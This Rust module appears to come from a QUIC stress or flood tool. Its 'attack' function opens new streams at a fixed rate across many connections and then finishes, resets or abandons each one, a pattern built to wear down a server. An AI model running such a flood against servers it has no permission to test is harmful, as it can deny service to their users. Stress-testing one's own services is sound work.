//! Streams: so many new ones a second, in turn ended without a word, reset within a frame, and abandoned behind a
//! question.

use std::rc::Rc;
use std::time::Duration;

use quinn::VarInt;
use tokio::time::MissedTickBehavior;

use super::front::{Front, sound_frame};
use crate::arguments::ChildAttack;

pub(super) async fn attack(front: &Rc<Front>, options: &ChildAttack) {
    let every = Duration::from_secs(1) * options.count / options.per_second.max(1);
    let question = sound_frame();
    let within = Rc::clone(front);
    let act = async move |at: usize, connection: &quinn::Connection| {
        let mut ticks = tokio::time::interval(every);
        // Whoever waited for the server makes up for it.
        ticks.set_missed_tick_behavior(MissedTickBehavior::Burst);
        for turn in at.. {
            ticks.tick().await;
            let Ok((mut send, mut receive)) = connection.open_bi().await else { return };
            within.count_stream();
            // The connection may end while this is under way; then the next stream says so.
            let _written = match turn % 3 {
                0 => send.finish().is_ok(),
                1 => send.write_all(&question[..1]).await.is_ok() && send.reset(VarInt::from_u32(0)).is_ok(),
                _ => send.write_all(&question).await.is_ok() && send.finish().is_ok(),
            };
            let _stopped = receive.stop(VarInt::from_u32(0));
        }
    };
    front.crowd(options.count, act).await;
}
